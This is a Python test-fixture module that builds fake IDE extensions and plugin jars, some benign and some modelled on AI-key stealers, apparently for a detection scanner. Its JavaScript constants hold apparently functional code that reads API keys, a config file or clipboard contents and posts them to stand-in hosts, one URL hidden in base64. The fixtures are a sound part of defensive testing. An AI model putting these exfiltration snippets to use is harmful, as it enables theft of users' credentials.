"""IDE extension and plugin fixtures, built at test time: VS Code-family extension folders and
.vsix zips, JetBrains plugin jars holding real class files (a hand-written constant pool; no
JDK needed). The stealers are shaped like the public cases (plugins that read the user's AI key
and post it to their own server) but hold no working code and are never run."""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
from pathlib import Path


class ClassWriter:
    """A minimal valid class file: constant pool, no fields or methods."""

    def __init__(self, name: str) -> None:
        self.pool: list[bytes] = []
        self.slots = 0
        self._utf8: dict[str, int] = {}
        self.this = self.cls(name)
        self.super = self.cls("java/lang/Object")

    def _add(self, entry: bytes, slots: int = 1) -> int:
        self.pool.append(entry)
        index = self.slots + 1
        self.slots += slots
        return index

    def utf8(self, text: str) -> int:
        if text not in self._utf8:
            raw = text.encode("utf-8").replace(b"\x00", b"\xc0\x80")
            self._utf8[text] = self._add(b"\x01" + struct.pack(">H", len(raw)) + raw)
        return self._utf8[text]

    def cls(self, name: str) -> int:
        return self._add(b"\x07" + struct.pack(">H", self.utf8(name)))

    def string(self, text: str) -> int:
        return self._add(b"\x08" + struct.pack(">H", self.utf8(text)))

    def long(self, value: int) -> int:
        return self._add(b"\x05" + struct.pack(">q", value), slots=2)

    def method_ref(self, owner: str, name: str, descriptor: str) -> int:
        nat = self._add(b"\x0c" + struct.pack(">HH", self.utf8(name), self.utf8(descriptor)))
        return self._add(b"\x0a" + struct.pack(">HH", self.cls(owner), nat))

    def build(self) -> bytes:
        head = struct.pack(">IHHH", 0xCAFEBABE, 0, 52, self.slots + 1)
        tail = struct.pack(">HHHHHHH", 0x21, self.this, self.super, 0, 0, 0, 0)
        return head + b"".join(self.pool) + tail


def klass(name: str, *, strings: tuple[str, ...] = (), calls: tuple[tuple[str, str, str], ...] = (),
          classes: tuple[str, ...] = ()) -> bytes:
    w = ClassWriter(name)
    w.long(42)  # a two-slot entry, as real classes have
    for s in strings:
        w.string(s)
    for c in classes:
        w.cls(c)
    for owner, meth, desc in calls:
        w.method_ref(owner, meth, desc)
    return w.build()


def plugin_xml(pid: str, name: str, version: str) -> str:
    return (f"<idea-plugin>\n  <id>{pid}</id>\n  <name>{name}</name>\n  <version>{version}</version>\n"
            f"  <vendor url=\"https://www.example-vendor.dev\">Vendor</vendor>\n</idea-plugin>\n")


def jar_bytes(entries: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


def write_vscode_extension(root: Path, publisher: str, name: str, version: str, files: dict[str, str]) -> Path:
    d = root / f"{publisher}.{name}-{version}"
    d.mkdir(parents=True)
    (d / "package.json").write_text(json.dumps({
        "name": name, "publisher": publisher, "version": version, "main": "./out/extension.js",
        "repository": {"url": f"https://github.com/{publisher}/{name}"}}))
    for rel, text in files.items():
        (d / rel).parent.mkdir(parents=True, exist_ok=True)
        (d / rel).write_text(text)
    return d


def write_vsix(path: Path, publisher: str, name: str, version: str, files: dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("extension.vsixmanifest", "<PackageManifest/>")
        z.writestr("extension/package.json", json.dumps({"name": name, "publisher": publisher, "version": version}))
        for rel, text in files.items():
            z.writestr(f"extension/{rel}", text)
    return path


# -- the code inside ---------------------------------------------------------------------------

VSCODE_STEALER = """\
const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
function collect() {
  const keys = { openai: process.env.OPENAI_API_KEY, anthropic: process.env.ANTHROPIC_API_KEY };
  try { keys.cont = fs.readFileSync(os.homedir() + '/.continue/config.json', 'utf8'); } catch (e) {}
  return keys;
}
exports.activate = async function () {
  await fetch('https://telemetry.ai-helper-stats.net/v1/e', { method: 'POST', body: JSON.stringify(collect()) });
};
"""

HIDDEN_URL = base64.b64encode(b"https://discord.com/api/webhooks/1180000000/aGVsbG8").decode()
CLIPBOARD_STEALER = f"""\
const vscode = require('vscode');
const KEY = /sk-[A-Za-z0-9_-]{{20,}}/;
async function watch() {{
  const text = await vscode.env.clipboard.readText();
  if (KEY.test(text)) {{
    await fetch(Buffer.from('{HIDDEN_URL}', 'base64').toString(), {{ method: 'POST', body: text }});
  }}
}}
exports.activate = () => setInterval(watch, 5000);
"""

VSIX_STEALER = """\
const https = require('https');
const key = process.env['GEMINI_API_KEY'];
const req = https.request({ host: '45.9.148.3', path: '/k', method: 'POST' });
req.end(JSON.stringify({ k: key, u: 'http://45.9.148.3/k' }));
"""

# Benign look-alikes: an SDK wrapper reading the user's key and calling the provider itself.
VSCODE_BENIGN = """\
const vscode = require('vscode');
// docs: https://github.com/good/openai-chat#readme and https://code.visualstudio.com/api
const mode = process.env.NODE_ENV === 'production' ? 'prod' : 'dev';
async function ask(prompt) {
  const key = process.env.OPENAI_API_KEY || await vscode.workspace.getConfiguration('chat').get('apiKey');
  const r = await fetch('https://api.openai.com/v1/chat/completions', {
    method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ prompt, mode }) });
  return r.json();
}
exports.activate = () => vscode.commands.registerCommand('chat.ask', ask);
"""

VSIX_BENIGN = """\
const Anthropic = require('@anthropic-ai/sdk');
const client = new Anthropic({ apiKey: process.env.ANTHROPIC_API_KEY, baseURL: 'https://api.anthropic.com' });
const { NODE_ENV, HOME } = process.env;
exports.ask = (q) => client.messages.create({ model: 'claude-haiku-4-5', max_tokens: 256, messages: [{ role: 'user', content: q }] });
"""


def jetbrains_passwordsafe_stealer() -> bytes:
    """The JetBrains shape: the key the user typed into the plugin, kept in PasswordSafe, read back
    and sent to the vendor's own collector (not OpenAI)."""
    store = klass("com/aicoderpro/KeyStore", strings=("OpenAI API Key", "com.aicoderpro.openai"),
                  calls=(("com/intellij/ide/passwordSafe/PasswordSafe", "getPassword",
                          "(Lcom/intellij/credentialStore/CredentialAttributes;)Ljava/lang/String;"),),
                  classes=("com/intellij/credentialStore/CredentialAttributes",))
    sync = klass("com/aicoderpro/Sync", strings=("https://api.aicoderpro-cloud.com/v1/sync", "POST"),
                 calls=(("java/net/URL", "openConnection", "()Ljava/net/URLConnection;"),),
                 classes=("java/net/HttpURLConnection",))
    return jar_bytes({"META-INF/plugin.xml": plugin_xml("com.aicoderpro", "AI Coder Pro", "2.1.0"),
                      "com/aicoderpro/KeyStore.class": store, "com/aicoderpro/Sync.class": sync})


def jetbrains_env_stealer_zip() -> bytes:
    """A plugin zip (<name>/lib/*.jar): env keys read with System.getenv and sent to a raw IP;
    the HTTP client is a bundled library in another jar."""
    main = klass("dev/gpttools/Boot", strings=("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "http://185.199.110.153/c"),
                 calls=(("java/lang/System", "getenv", "(Ljava/lang/String;)Ljava/lang/String;"),))
    lib = klass("okhttp3/OkHttpClient", strings=("okhttp/4.12.0",))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("gpt-tools/lib/gpt-tools.jar", jar_bytes({
            "META-INF/plugin.xml": plugin_xml("dev.gpttools", "GPT Tools", "0.9.1"),
            "dev/gpttools/Boot.class": main}))
        z.writestr("gpt-tools/lib/okhttp-4.12.0.jar", jar_bytes({"okhttp3/OkHttpClient.class": lib}))
    return buf.getvalue()


def jetbrains_benign() -> bytes:
    """An AI plugin doing it right: env key, the provider's own host, the JDK HTTP client."""
    c = klass("org/goodai/Client", strings=("OPENAI_API_KEY", "JAVA_HOME", "https://api.openai.com/v1/responses",
                                           "https://plugins.jetbrains.com/plugin/99999-good-ai"),
              calls=(("java/lang/System", "getenv", "(Ljava/lang/String;)Ljava/lang/String;"),
                     ("java/net/http/HttpClient", "newHttpClient", "()Ljava/net/http/HttpClient;")))
    return jar_bytes({"META-INF/plugin.xml": plugin_xml("org.goodai", "Good AI", "1.4.0"),
                      "org/goodai/Client.class": c, "messages/GoodAi.properties": "docs=https://www.jetbrains.com/help\n"})


def jetbrains_database_benign() -> bytes:
    """A database plugin: PasswordSafe for its connection passwords and its own server, no AI key."""
    c = klass("org/dbtool/Conn", strings=("Database password", "https://sync.dbtool-cloud.io/api"),
              calls=(("com/intellij/ide/passwordSafe/PasswordSafe", "getPassword", "()Ljava/lang/String;"),),
              classes=("java/net/HttpURLConnection",))
    return jar_bytes({"META-INF/plugin.xml": plugin_xml("org.dbtool", "DB Tool", "3.0.2"), "org/dbtool/Conn.class": c})


def build_home(home: Path) -> Path:
    """A home folder with every IDE fixture installed where the IDEs keep them."""
    write_vscode_extension(home / ".vscode" / "extensions", "evil", "ai-helper", "1.2.3",
                           {"out/extension.js": VSCODE_STEALER})
    write_vscode_extension(home / ".cursor" / "extensions", "good", "openai-chat", "0.4.0",
                           {"out/extension.js": VSCODE_BENIGN})
    write_vscode_extension(home / ".windsurf" / "extensions", "snippy", "clip-keys", "0.0.7",
                           {"dist/main.js": CLIPBOARD_STEALER})
    product = home / ".local" / "share" / "JetBrains" / "IntelliJIdea2025.2"
    (product / "ai-coder-pro" / "lib").mkdir(parents=True)
    (product / "ai-coder-pro" / "lib" / "ai-coder-pro-2.1.0.jar").write_bytes(jetbrains_passwordsafe_stealer())
    (product / "good-ai" / "lib").mkdir(parents=True)
    (product / "good-ai" / "lib" / "good-ai.jar").write_bytes(jetbrains_benign())
    (product / "db-tool.jar").write_bytes(jetbrains_database_benign())
    plugins = home / ".config" / "JetBrains" / "PyCharm2025.1" / "plugins"
    plugins.mkdir(parents=True)
    (plugins / "gpt-tools.zip").write_bytes(jetbrains_env_stealer_zip())
    return home
